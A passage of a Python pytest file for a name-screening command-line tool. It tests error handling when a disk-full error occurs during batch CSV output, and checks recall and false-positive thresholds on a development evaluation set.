    db_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    src = many_rows(tmp_path)
    out = src.with_name("out.csv")

    def fail(self: CsvWriter, df: Any, results: Any) -> None:
        raise OSError(28, "No space left on device", str(self.path))

    monkeypatch.setattr(CsvWriter, "_write", fail)
    code, _, err = run_main(
        monkeypatch,
        capsys,
        "--db",
        str(db_path),
        "batch",
        str(src),
        "-o",
        str(out),
        "--workers",
        "1",
    )
    assert code == 2
    assert_one_line_error(err, "No space left on device")
    assert sorted(p.name for p in src.parent.iterdir()) == ["in.csv"]
    runs = audit.runs(Store(db_path), 1)
    assert runs[0]["status"] == "failed"


# --- the development evaluation set -----------------------------------------------------------


def test_dev_eval_through_batch(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "dev.jsonl"
    s = Screener(store).batch(DEV_EVAL, out, column="query", workers=1)
    with open(DEV_EVAL, encoding="utf-8", newline="") as f:
        queries = list(csv.DictReader(f))
    rows = read_jsonl(out)
    assert s.rows == len(rows) == len(queries)
    tp = fn = fp = 0
    misses, false_positives = [], []
    for q, o in zip(queries, rows, strict=True):
        assert o["query"] == q["query"]
        hits = o["hits"]
        expect = q["expect"].strip()
        if expect:
            rx = re.compile(expect, re.I)
            if any(rx.search(h["name"] or "") or rx.search(h["matched_name"] or "") for h in hits):
                tp += 1
            else:
                fn += 1
                misses.append(q["query"])
        elif hits:
            fp += 1
            false_positives.append((q["query"], hits[0]["name"], hits[0]["score"]))
    recall = tp / max(1, tp + fn)
    assert recall >= 0.95, misses
    assert fp <= 1, false_positives
